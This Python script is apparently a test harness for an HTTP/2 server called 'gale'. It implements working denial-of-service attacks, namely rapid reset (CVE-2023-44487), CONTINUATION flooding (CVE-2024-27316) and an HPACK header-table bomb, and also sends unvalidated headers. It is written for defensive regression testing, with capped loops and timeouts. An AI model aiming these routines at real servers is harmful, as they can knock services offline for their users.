"""HTTP/2 abuse against gale, with the h2 library (pinned in scripts/requirements.txt).

Run by tests/src/h2.rs, one scenario per run:
    abuse.py SCENARIO --addr HOST:PORT --sni NAME --ca CA.pem [--count N]
It prints one JSON object on stdout saying what came back. Every loop is bounded by --count and
every read by a socket timeout; the Rust test decides what is right.

Scenarios:
  request       one GET /whoami (optionally with --header NAME=VALUE, sent unvalidated)
  rapid-reset   N streams opened and reset at once (CVE-2023-44487), then read until GOAWAY/EOF
  continuation  HEADERS without END_HEADERS, then up to N CONTINUATION frames (CVE-2024-27316)
  hpack-bomb    one 4 KiB header in the dynamic table, then a block of N one-byte references to it
"""
import argparse
import json
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack
from hyperframe.frame import ContinuationFrame, HeadersFrame

READ_TIMEOUT = 15.0


def connect(args):
    ctx = ssl.create_default_context(cafile=args.ca)
    ctx.set_alpn_protocols(["h2"])
    host, port = args.addr.rsplit(":", 1)
    raw = socket.create_connection((host, int(port)), timeout=READ_TIMEOUT)
    sock = ctx.wrap_socket(raw, server_hostname=args.sni)
    if sock.selected_alpn_protocol() != "h2":
        raise SystemExit(f"ALPN chose {sock.selected_alpn_protocol()!r}, not h2")
    config = h2.config.H2Configuration(client_side=True, validate_outbound_headers=False,
                                       normalize_outbound_headers=False, validate_inbound_headers=False)
    conn = h2.connection.H2Connection(config=config)
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def base_headers(args, path="/whoami"):
    return [(":method", "GET"), (":scheme", "https"), (":authority", args.authority or args.sni), (":path", path)]


class Outcome:
    """What the server sent back, gathered from h2 events."""

    def __init__(self):
        self.status = {}
        self.body = {}
        self.reset = {}
        self.goaway = None
        self.closed = False
        self.error = None

    def absorb(self, events):
        for e in events:
            if isinstance(e, h2.events.ResponseReceived):
                self.status[e.stream_id] = int(dict(e.headers)[b":status"])
            elif isinstance(e, h2.events.DataReceived):
                self.body[e.stream_id] = self.body.get(e.stream_id, b"") + e.data
            elif isinstance(e, h2.events.StreamReset):
                self.reset[e.stream_id] = int(e.error_code)
            elif isinstance(e, h2.events.ConnectionTerminated):
                self.goaway = int(e.error_code)

    def json(self, **extra):
        out = {
            "status": {str(k): v for k, v in self.status.items()},
            "body": {str(k): v.decode("utf-8", "replace")[:2000] for k, v in self.body.items()},
            "reset": {str(k): v for k, v in self.reset.items()},
            "goaway": self.goaway,
            "closed": self.closed,
            "error": self.error,
        }
        out.update(extra)
        return out


def pump(sock, conn, outcome, done, deadline):
    """Reads and feeds frames until done(outcome), EOF, GOAWAY or the deadline."""
    while not done(outcome) and outcome.goaway is None and time.monotonic() < deadline:
        try:
            data = sock.recv(65536)
        except socket.timeout:
            outcome.error = "read timeout"
            return
        except (ConnectionError, ssl.SSLError) as e:
            outcome.closed = True
            outcome.error = repr(e)
            return
        if not data:
            outcome.closed = True
            return
        try:
            outcome.absorb(conn.receive_data(data))
        except h2.exceptions.ProtocolError as e:
            outcome.error = repr(e)
            return
        pending = conn.data_to_send()
        if pending:
            try:
                sock.sendall(pending)
            except (ConnectionError, ssl.SSLError):
                outcome.closed = True
                return


def request(args):
    sock, conn = connect(args)
    headers = base_headers(args)
    for h in args.header:
        name, _, value = h.partition("=")
        headers.append((name, value))
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, headers, end_stream=True)
    sock.sendall(conn.data_to_send())
    out = Outcome()
    # Read until the stream ended (END_STREAM), was reset, or the connection went.
    ended = set()

    def done(o):
        return sid in o.reset or sid in ended

    while not done(out) and out.goaway is None:
        try:
            data = sock.recv(65536)
        except (socket.timeout, ConnectionError, ssl.SSLError) as e:
            out.error = repr(e)
            break
        if not data:
            out.closed = True
            break
        events = conn.receive_data(data)
        out.absorb(events)
        for e in events:
            if isinstance(e, h2.events.StreamEnded):
                ended.add(e.stream_id)
        pending = conn.data_to_send()
        if pending:
            sock.sendall(pending)
    print(json.dumps(out.json(stream=sid)))


def rapid_reset(args):
    sock, conn = connect(args)
    sent = 0
    out = Outcome()
    # Batches of 100 HEADERS+RST_STREAM pairs written at once: the server sees streams opened and
    # cancelled faster than it can accept them.
    while sent < args.count and not out.closed and out.goaway is None:
        for _ in range(min(100, args.count - sent)):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, base_headers(args), end_stream=True)
            conn.reset_stream(sid, error_code=8)  # CANCEL
            sent += 1
        try:
            sock.sendall(conn.data_to_send())
        except (ConnectionError, ssl.SSLError) as e:
            out.closed = True
            out.error = repr(e)
            break
        sock.setblocking(False)
        try:
            data = sock.recv(65536)
            if not data:
                out.closed = True
            else:
                out.absorb(conn.receive_data(data))
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        except (ConnectionError, ssl.SSLError) as e:
            out.closed = True
            out.error = repr(e)
        except h2.exceptions.ProtocolError as e:
            out.error = repr(e)
        sock.setblocking(True)
        sock.settimeout(READ_TIMEOUT)
    pump(sock, conn, out, lambda o: False, time.monotonic() + READ_TIMEOUT)
    print(json.dumps(out.json(sent=sent)))


def continuation(args):
    sock, conn = connect(args)
    encoder = hpack.Encoder()
    sid = conn.get_next_available_stream_id()
    block = encoder.encode(base_headers(args))
    frames = [HeadersFrame(sid, data=block, flags=["END_STREAM"]).serialize()]
    sock.sendall(b"".join(frames))
    sent = 0
    out = Outcome()
    # Each CONTINUATION carries one more literal header (never END_HEADERS): a server that keeps
    # the whole block in memory would grow without end.
    filler = encoder.encode([("x-flood", "y" * 1000)])
    while sent < args.count:
        try:
            sock.sendall(ContinuationFrame(sid, data=filler).serialize())
        except (ConnectionError, ssl.SSLError, socket.timeout) as e:
            out.closed = True
            out.error = repr(e)
            break
        sent += 1
    out.closed = False
    pump(sock, conn, out, lambda o: False, time.monotonic() + READ_TIMEOUT)
    print(json.dumps(out.json(sent=sent)))


def hpack_bomb(args):
    sock, conn = connect(args)
    sid = conn.get_next_available_stream_id()
    encoder = hpack.Encoder()
    block = encoder.encode(base_headers(args))
    # Literal with incremental indexing: "x-bomb" with a 4 KiB value enters the dynamic table at
    # index 62; then each 0xbe byte is an indexed field meaning that whole header again.
    value = b"z" * 4096
    block += b"\x40" + bytes([6]) + b"x-bomb" + b"\x7f" + hpack_int(len(value) - 127) + value
    block += b"\xbe" * args.count
    out = Outcome()
    frames = []
    step = 16384
    chunks = [block[i:i + step] for i in range(0, len(block), step)] or [b""]
    for i, chunk in enumerate(chunks):
        flags = ["END_STREAM"] if i == 0 else []
        if i == len(chunks) - 1:
            flags.append("END_HEADERS")
        f = HeadersFrame(sid, data=chunk, flags=flags) if i == 0 else ContinuationFrame(sid, data=chunk, flags=flags)
        frames.append(f.serialize())
    try:
        sock.sendall(b"".join(frames))
    except (ConnectionError, ssl.SSLError) as e:
        out.closed = True
        out.error = repr(e)
    if not out.closed:
        pump(sock, conn, out, lambda o: sid in o.reset or sid in o.status, time.monotonic() + READ_TIMEOUT)
    print(json.dumps(out.json(stream=sid, block_bytes=len(block))))


def hpack_int(n):
    """The continuation bytes of an HPACK integer past a full 7-bit prefix."""
    out = bytearray()
    while n >= 128:
        out.append((n % 128) + 128)
        n //= 128
    out.append(n)
    return bytes(out)


def main():
    p = argparse.ArgumentParser()
    p.add_argument("scenario", choices=["request", "rapid-reset", "continuation", "hpack-bomb"])
    p.add_argument("--addr", required=True)
    p.add_argument("--sni", required=True)
    p.add_argument("--authority")
    p.add_argument("--ca", required=True)
    p.add_argument("--count", type=int, default=1000)
    p.add_argument("--header", action="append", default=[])
    args = p.parse_args()
    {"request": request, "rapid-reset": rapid_reset, "continuation": continuation, "hpack-bomb": hpack_bomb}[
        args.scenario](args)


if __name__ == "__main__":
    sys.exit(main())
